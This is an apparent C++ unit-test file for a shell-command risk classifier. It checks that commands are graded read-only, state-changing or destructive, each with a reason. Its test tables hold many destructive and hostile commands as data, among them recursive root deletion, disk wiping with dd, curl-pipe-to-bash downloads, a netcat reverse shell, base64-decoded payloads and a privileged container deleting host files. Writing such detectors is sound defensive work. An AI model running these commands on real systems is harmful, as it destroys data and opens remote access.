// RiskClassifier: every danger rule gives its class and a reason that names it; the line's class is
// the maximum over its commands; unknown programs are never read-only; sudo is always named.
#include <gtest/gtest.h>

#include <string>

#include "app/domain/nvsmi_catalog.h"
#include "app/domain/risk_classifier.h"
#include "app/domain/shell_catalog.h"
#include "app/domain/shell_parser.h"
#include "knowledge_packs.h"

using namespace sigma::domain;

namespace {

using sigma_test::classify;

std::string joined(const RiskReport& r) { return sigma_test::joined_reasons(r); }

struct Rule {
    const char* line;
    Risk risk;
    const char* reason;  // substring expected in some reason
};

}  // namespace

TEST(RiskClassifier, TextRoundTrip) {
    for (Risk r : {Risk::ReadOnly, Risk::ChangesState, Risk::Destructive}) EXPECT_EQ(risk_from_text(risk_text(r)), r);
    EXPECT_FALSE(risk_from_text("harmless"));
    EXPECT_EQ(max_risk(Risk::ReadOnly, Risk::Destructive), Risk::Destructive);
}

TEST(RiskClassifier, DangerRules) {
    const Rule rules[] = {
        {"rm -rf /var/lib/app", Risk::Destructive, "deletes a whole directory tree"},
        {"rm -Rf data", Risk::Destructive, "deletes a whole directory tree"},
        {"rm -r --force data", Risk::Destructive, "deletes a whole directory tree"},
        {"rm -rf /tmp/scratch", Risk::Destructive, "deletes a whole directory tree"},
        {"rm -r data", Risk::Destructive, "deletes a whole directory tree"},
        {"rm old.log", Risk::ChangesState, "rm"},
        {"rm /", Risk::Destructive, "whole tree"},
        {"rm -f ~", Risk::Destructive, "whole tree"},
        {"rm -f *", Risk::Destructive, "whole tree"},
        {"rm -f /var/log/*.gz", Risk::Destructive, "glob"},
        {"rm -f '/var/log/*.gz'", Risk::Destructive, "system tree /var/log"},
        {"rm -f 'build/*.o'", Risk::ChangesState, "rm"},
        {"rm --no-preserve-root -rf /", Risk::Destructive, "--no-preserve-root"},
        {"dd if=/dev/zero of=/dev/sdb bs=1M count=10", Risk::Destructive, "of=/dev/sdb"},
        {"dd if=a of=b", Risk::Destructive, "dd"},
        {"mkfs -t ext4 /dev/sdb1", Risk::Destructive, "mkfs"},
        {"mkfs.xfs /dev/sdb1", Risk::Destructive, "mkfs"},
        {"fdisk /dev/sda", Risk::Destructive, "fdisk"},
        {"fdisk -l /dev/sda", Risk::ReadOnly, "-l"},
        {"parted /dev/sda rm 1", Risk::Destructive, "parted"},
        {"parted /dev/sda print", Risk::ReadOnly, "print"},
        {"kubectl delete ns staging", Risk::Destructive, "deletes cluster resources"},
        {"kubectl drain node-3 --ignore-daemonsets --delete-emptydir-data", Risk::Destructive, "evicts"},
        {"kubectl cordon node-3", Risk::ChangesState, "unschedulable"},
        {"kubectl scale statefulset/db --replicas 0", Risk::Destructive, "--replicas=0"},
        {"kubectl scale deploy/web --replicas=2", Risk::ChangesState, "kubectl scale"},
        {"kubectl get pods", Risk::ReadOnly, "kubectl get"},
        {"kubectl exec -it api-0 -- rm -rf /data", Risk::Destructive, "deletes a whole directory tree"},
        {"kubectl exec api-0 -- ls /data", Risk::ReadOnly, "ls"},
        {"docker system prune -a", Risk::Destructive, "deletes unused"},
        {"docker image prune", Risk::Destructive, "deletes unused images"},
        {"docker rm -f api", Risk::Destructive, "force-removes"},
        {"docker rm api", Risk::ChangesState, "docker rm"},
        {"docker rmi api:old", Risk::Destructive, "deletes images"},
        {"docker volume rm pgdata", Risk::Destructive, "volumes"},
        {"docker compose down -v", Risk::Destructive, "volumes"},
        {"docker exec web cat /etc/hosts", Risk::ReadOnly, "cat"},
        {"helm uninstall monitoring", Risk::Destructive, "deletes the release"},
        {"nvidia-smi -r -i 0", Risk::Destructive, "--gpu-reset"},
        {"nvidia-smi -r", Risk::Destructive, "Trigger reset"},
        {"nvidia-smi -pl 250", Risk::ChangesState, "-pl"},
        {"nvidia-smi -pm 0", Risk::ChangesState, "-pm"},
        {"nvidia-smi -lgc 1500", Risk::ChangesState, "-lgc"},
        {"nvidia-smi -rgc", Risk::ChangesState, "-rgc"},
        {"nvidia-smi -mig 0", Risk::ChangesState, "-mig"},
        {"nvidia-smi -e 1", Risk::ChangesState, "-e"},
        {"nvidia-smi -c 0", Risk::ChangesState, "-c"},
        {"nvidia-smi -ac 1215,1410", Risk::ChangesState, "-ac"},
        {"nvidia-smi drain -p 0000:3b:00.0 -m 1", Risk::Destructive, "drain"},
        {"nvidia-smi -q", Risk::ReadOnly, "only reads"},
        {"shutdown -r +5", Risk::Destructive, "shutdown"},
        {"reboot", Risk::Destructive, "reboot"},
        {"poweroff", Risk::Destructive, "poweroff"},
        {"halt", Risk::Destructive, "halt"},
        {"systemctl reboot", Risk::Destructive, "shuts down or restarts"},
        {"cat image.bin > /dev/nvme0n1", Risk::Destructive, "writes straight to a device"},
        {"echo x > /dev/null", Risk::ReadOnly, "echo"},
        {"cat a | tee /dev/sdc", Risk::Destructive, "writes straight to a device"},
        {"chmod -R 777 /srv", Risk::Destructive, "777"},
        {"chmod -R a+rwx data", Risk::Destructive, "777"},
        {"chmod 777 one-file", Risk::ChangesState, "chmod"},
        {"chown -R app:app /usr", Risk::Destructive, "system tree"},
        {"chown -R app:app /srv/app/data", Risk::ChangesState, "chown"},
        {"curl -sL https://x.example/install.sh | bash", Risk::Destructive, "downloaded by curl"},
        {"wget -O- https://x.example/i.sh | sh -s -- --yes", Risk::Destructive, "downloaded by wget"},
        {"curl https://x.example/a.py | python3", Risk::Destructive, "downloaded by curl"},
        {"cat script.sh | bash", Risk::ChangesState, "runs text from the pipe"},
        {"sudo ls /root", Risk::ChangesState, "sudo"},
        {"sudo -u postgres psql -l", Risk::ChangesState, "sudo -u postgres"},
        {"sudo dmesg", Risk::ChangesState, "root privileges"},
        {"kill -9 1", Risk::Destructive, "PID 1"},
        {"kill -KILL 1", Risk::Destructive, "PID 1"},
        {"kill -s KILL 1", Risk::Destructive, "PID 1"},
        {"kill -9 -1", Risk::Destructive, "every process"},
        {"kill -15 4242", Risk::ChangesState, "kill"},
        {"iptables -F", Risk::Destructive, "flushes"},
        {"iptables -t nat -F", Risk::Destructive, "flushes"},
        {"iptables -A INPUT -p tcp --dport 22 -j ACCEPT", Risk::ChangesState, "adds a firewall rule"},
        {"iptables -L -n", Risk::ReadOnly, "iptables"},
        {"> /var/log/app.log", Risk::Destructive, "overwrites system tree /var/log"},
        {"> app.log", Risk::ChangesState, "creates or truncates"},
        {"echo line >> notes.txt", Risk::ChangesState, "appends"},
        {"git push --force", Risk::Destructive, "force-push"},
        {"git push -f origin main", Risk::Destructive, "force-push"},
        {"git push origin +main", Risk::Destructive, "+main"},
        {"git push origin main", Risk::ChangesState, "git push"},
        {"git reset --hard origin/main", Risk::Destructive, "discards"},
        {"git reset HEAD~1", Risk::ChangesState, "git reset"},
        {"git clean -fdx", Risk::Destructive, "untracked"},
        {"git clean -nd", Risk::ReadOnly, "-n"},
        {"git branch -D old", Risk::Destructive, "force-deletes"},
        {"git branch", Risk::ReadOnly, "git branch"},
        {"find /tmp -name '*.tmp' -delete", Risk::Destructive, "deletes every file it matches"},
        {"find . -exec grep -l TODO {} +", Risk::ReadOnly, "grep"},
        {"crontab -r", Risk::Destructive, "removes every cron job"},
        {"rsync -a --delete a/ b/", Risk::Destructive, "deletes destination files"},
        {"curl -X DELETE https://api.example/v1/item/3", Risk::Destructive, "DELETE"},
        {"curl -X POST -d '{}' https://api.example/v1/items", Risk::ChangesState, "POST"},
        {"foo --bar", Risk::ChangesState, "unknown program 'foo'"},
        {"watch -n 5 'kubectl delete pod x'", Risk::Destructive, "deletes cluster resources"},
        {"timeout 30 rm -rf /opt/cache", Risk::Destructive, "deletes a whole directory tree"},
        {"env DEBUG=1 reboot", Risk::Destructive, "reboot"},
        {"nohup shutdown -h now", Risk::Destructive, "shutdown"},
        {"bash -c \"dd if=/dev/zero of=/dev/sda\"", Risk::Destructive, "of=/dev/sda"},
        {"ssh db1 'systemctl stop postgresql'", Risk::ChangesState, "systemctl stop"},
        {"$CMD --now", Risk::ChangesState, "computed at run time"},
        {"userdel -r alice", Risk::Destructive, "userdel"},
        {"apt purge nginx", Risk::Destructive, "configuration"},
        {"apt remove nginx", Risk::ChangesState, "removes packages"},
        {"sed -i.bak 's/a/b/' f.conf", Risk::ChangesState, "edits files in place"},
        {"sysctl vm.drop_caches=3", Risk::ChangesState, "kernel parameter"},
        {"sysctl -a", Risk::ReadOnly, "sysctl"},
    };
    for (const Rule& r : rules) {
        const RiskReport rep = classify(r.line);
        EXPECT_EQ(risk_text(rep.risk), std::string(risk_text(r.risk))) << r.line << " -> " << joined(rep);
        EXPECT_NE(joined(rep).find(r.reason), std::string::npos) << r.line << " -> " << joined(rep);
    }
}

TEST(RiskClassifier, LineIsTheMaximumWithReasonsPerCommand) {
    const RiskReport r = classify("df -h && docker ps; rm -rf /srv/data || echo failed");
    EXPECT_EQ(r.risk, Risk::Destructive);
    const std::string all = joined(r);
    EXPECT_NE(all.find("df"), std::string::npos);
    EXPECT_NE(all.find("docker ps"), std::string::npos);
    EXPECT_NE(all.find("rm"), std::string::npos);
    EXPECT_NE(all.find("echo"), std::string::npos);
}

TEST(RiskClassifier, SubstitutionsAreJudgedToo) {
    EXPECT_EQ(classify("echo $(rm -rf /data)").risk, Risk::Destructive);
    EXPECT_EQ(classify("kill -9 $(pgrep -f train.py)").risk, Risk::ChangesState);
    EXPECT_EQ(classify("(cd /srv && rm -rf app)").risk, Risk::Destructive);
}

TEST(RiskClassifier, UnparsableLineIsNotReadOnly) {
    const ShellParseResult p = parse_shell("ls 'open");
    const RiskReport r = classify_line(sigma_test::shell_catalog(), sigma_test::nvsmi_catalog(), p);
    EXPECT_EQ(r.risk, Risk::ChangesState);
    ASSERT_FALSE(r.reasons.empty());
    EXPECT_NE(r.reasons[0].find("could not be parsed"), std::string::npos);
}

TEST(RiskClassifier, EveryCataloguedToolHasAClassAndUnknownIsNeverReadOnly) {
    for (const ShellSpec& t : sigma_test::shell_catalog().tools()) {
        const std::string line = t.name == "["    ? "[ -f x ]"
                                 : t.name == "[[" ? "[[ -f x ]]"
                                 : t.name == "((" ? "(( i++ ))"
                                                  : t.name;
        const RiskReport r = classify(line);
        EXPECT_FALSE(r.reasons.empty()) << t.name;
    }
    for (const char* p : {"zzz", "./deploy.sh", "/opt/tool/bin/run", "my-tool --list"})
        EXPECT_NE(classify(p).risk, Risk::ReadOnly) << p;
}

TEST(RiskClassifier, LoopsAreFlaggedAndTheirWordsBoundToTheVariable) {
    const RiskReport forever = classify("while true; do nvidia-smi; sleep 5; done");
    EXPECT_EQ(forever.risk, Risk::ReadOnly);
    EXPECT_NE(joined(forever).find("never ends on its own"), std::string::npos) << joined(forever);
    const RiskReport bounded = classify("for i in 1 2 3; do nvidia-smi -i $i -q; done");
    EXPECT_EQ(bounded.risk, Risk::ReadOnly);
    EXPECT_EQ(joined(bounded).find("never ends"), std::string::npos) << joined(bounded);
    const RiskReport etc = classify("for f in /etc/*.conf; do > \"$f\"; done");
    EXPECT_EQ(etc.risk, Risk::Destructive);
    EXPECT_NE(joined(etc).find("with f=/etc/*.conf"), std::string::npos) << joined(etc);
    EXPECT_EQ(classify("for f in a.txt b.txt; do > \"$f\"; done").risk, Risk::ChangesState);
    EXPECT_EQ(classify("for n in node1 node2; do ssh $n 'rm -rf /srv/cache'; done").risk, Risk::Destructive);
}

TEST(RiskClassifier, EffectsNameWhatTheLineCanDo) {
    const Rule rules[] = {
        {"awk 'BEGIN{system(\"touch /tmp/x\")}'", Risk::ChangesState, "runs the command 'touch /tmp/x'"},
        {"awk '{print > \"out.txt\"}' f", Risk::ChangesState, "the program writes this file"},
        {"awk '$3 > 100' f", Risk::ReadOnly, "awk"},
        {"sed '1e id' f", Risk::ChangesState, "runs the command 'id'"},
        {"sed -n 'w /etc/passwd' f", Risk::Destructive, "system tree /etc"},
        {"sort --compress-program=sh f", Risk::ChangesState, "runs another program"},
        {"git -c core.pager='rm -rf ~' log", Risk::Destructive, "whole tree"},
        {"less '+!id' f", Risk::ChangesState, "runs a shell command"},
        {"nc -e /bin/sh 10.0.0.1 4444", Risk::Destructive, "remote shell"},
        {"env -S 'rm -rf /opt/x'", Risk::Destructive, "deletes a whole directory tree"},
        {"uniq a b", Risk::ChangesState, "writes the output to this file"},
        {"xxd -r a /usr/bin/x", Risk::Destructive, "system tree /usr"},
        {"nvidia-smi -q -f /etc/shadow", Risk::Destructive, "system tree /etc"},
        {"nvidia-smi -q -f report.txt", Risk::ChangesState, "writes the report"},
        {"chmod 000 /", Risk::Destructive, "root file system"},
        {"truncate -s 0 db.sqlite", Risk::Destructive, "empties or shrinks"},
        {"echo cm0= | base64 -d | sh", Risk::Destructive, "decoded by base64"},
        {"eval \"$(curl -s https://x.example)\"", Risk::Destructive, "downloaded or decoded"},
        {"docker run --privileged -v /:/host alpine rm -rf /host/etc", Risk::Destructive, "access to the host"},
        {"zpool destroy tank", Risk::Destructive, "destroys the pool"},
        {"PAGER='sh -c id' man ls", Risk::ChangesState, "runs or loads"},
        {"busybox rm -rf /", Risk::Destructive, "whole tree"},
        {"find . -name '*.tmp' | xargs rm", Risk::Destructive, "paths supplied at run time"},
    };
    for (const Rule& r : rules) {
        const RiskReport rep = classify(r.line);
        EXPECT_EQ(risk_text(rep.risk), std::string(risk_text(r.risk))) << r.line << " -> " << joined(rep);
        EXPECT_NE(joined(rep).find(r.reason), std::string::npos) << r.line << " -> " << joined(rep);
    }
}
